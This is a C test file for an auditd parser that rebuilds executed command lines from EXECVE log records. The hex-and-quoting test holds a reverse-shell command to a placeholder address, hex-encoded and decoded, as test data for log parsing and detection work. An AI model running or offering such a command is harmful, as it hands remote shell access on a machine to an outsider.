/* test_auditd.c: auditd EXECVE records joined into commands: quoted and hex arguments, long
 * arguments split over records (aN_len, aN[M]), interleaved events, EOE, malformed lines counted,
 * and the shell quoting of the joined command line. */
#include <stdlib.h>
#include <string.h>
#include "auditd_read.h"
#include "tap.h"

struct got {
	int n;
	char cmd[8][512];
	uint64_t serial[8];
	bool partial[8];
};

static void on_exec(void *ctx, const struct auditd_exec *ex)
{
	struct got *g = ctx;

	if (g->n < 8) {
		auditd_cmdline(ex, g->cmd[g->n], sizeof(g->cmd[0]));
		g->serial[g->n] = ex->serial;
		g->partial[g->n] = ex->partial;
	}
	g->n++;
}

static struct auditd_reader *feed(struct got *g, const char *const *lines, size_t n)
{
	struct auditd_reader *r = auditd_new(on_exec, g);

	memset(g, 0, sizeof(*g));
	for (size_t i = 0; i < n; i++)
		auditd_feed_line(r, lines[i], strlen(lines[i]));
	auditd_finish(r);
	return r;
}

static void test_simple(void)
{
	static const char *const in[] = {
		"type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes",
		"type=EXECVE msg=audit(1700000000.100:10): argc=3 a0=\"ls\" a1=\"-la\" a2=\"/tmp\"",
		"node=h1 type=EXECVE msg=audit(1700000000.200:11): argc=3 a0=\"bash\" a1=\"-c\" "
		"a2=69642024(null)",
		"type=EXECVE msg=audit(1700000000.300:12): argc=2 a0=\"sh\" a1=2D63",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, 3);

	CHECK(g.n == 2);
	CHECKF(!strcmp(g.cmd[0], "ls -la /tmp"), "%s", g.cmd[0]);
	CHECK(g.serial[0] == 10 && g.serial[1] == 11 && !g.partial[0]);
	/* an unquoted value that is not hex stays as it is */
	CHECKF(!strcmp(g.cmd[1], "bash -c '69642024(null)'"), "%s", g.cmd[1]);
	auditd_free(r);
	r = feed(&g, in + 3, 1);
	CHECKF(g.n == 1 && !strcmp(g.cmd[0], "sh -c"), "%s", g.cmd[0]);
	auditd_free(r);
}

static void test_hex_and_quoting(void)
{
	/* a2 = "bash -i >& /dev/tcp/1.2.3.4/80 0>&1" hex-encoded; a3 = "it's" */
	static const char *const in[] = {
		"type=EXECVE msg=audit(1.0:20): argc=4 a0=\"bash\" a1=\"-c\" "
		"a2=62617368202D69203E26202F6465762F7463702F312E322E332E342F383020303E2631 a3=69742773",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, 1);

	CHECK(g.n == 1);
	CHECKF(!strcmp(g.cmd[0], "bash -c 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1' 'it'\\''s'"), "%s",
	       g.cmd[0]);
	auditd_free(r);
}

static void test_split_records(void)
{
	/* a1 = "-la /" (5 bytes) in two chunks over two records; event 31 interleaved. */
	static const char *const in[] = {
		"type=EXECVE msg=audit(2.0:30): argc=3 a0=\"ls\" a1_len=5 a1[0]=2D6C",
		"type=EXECVE msg=audit(2.0:31): argc=1 a0=\"id\"",
		"type=EXECVE msg=audit(2.0:30): a1[1]=\"a /\" a2=\"x\"",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, 3);

	CHECK(g.n == 2);
	CHECKF(!strcmp(g.cmd[0], "id") && g.serial[0] == 31, "%s", g.cmd[0]);
	CHECKF(!strcmp(g.cmd[1], "ls '-la /' x") && g.serial[1] == 30 && !g.partial[1], "%s",
	       g.cmd[1]);
	auditd_free(r);
}

static void test_incomplete_and_bad(void)
{
	static const char *const in[] = {
		"type=EXECVE msg=audit(3.0:40): argc=3 a0=\"cat\" a1=\"f\"",   /* a2 never comes */
		"type=EOE msg=audit(3.0:40): ",
		"type=EXECVE msg=audit(garbage",
		"type=EXECVE no header at all",
		"complete garbage \x01\x02",
		"",
		"type=EXECVE msg=audit(4.0:41): argc=2 a0=\"unterminated a1=",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, sizeof(in) / sizeof(in[0]));
	const struct auditd_stats *st = auditd_stats(r);

	CHECK(g.n == 2);
	CHECKF(!strcmp(g.cmd[0], "cat f ''") && g.partial[0], "%s", g.cmd[0]);
	CHECK(g.partial[1]);
	CHECK(st->bad_records == 2 && st->events == 2 && st->partial_events == 2 && st->lines == 7);
	auditd_free(r);
}

static void test_many_pending(void)
{
	struct got g;
	struct auditd_reader *r = auditd_new(on_exec, &g);
	char line[128];

	memset(&g, 0, sizeof(g));
	for (int i = 0; i < AUDITD_PENDING + 3; i++) {
		int n = snprintf(line, sizeof(line), "type=EXECVE msg=audit(5.0:%d): argc=2 a0=\"x\"",
				 100 + i);

		auditd_feed_line(r, line, (size_t)n);
	}
	CHECK(g.n == 3 && g.serial[0] == 100 && g.partial[0]); /* oldest flushed first */
	auditd_finish(r);
	CHECK(g.n == AUDITD_PENDING + 3);
	auditd_free(r);
}

int main(void)
{
	RUN(test_simple);
	RUN(test_hex_and_quoting);
	RUN(test_split_records);
	RUN(test_incomplete_and_bad);
	RUN(test_many_pending);
	return tap_done();
}
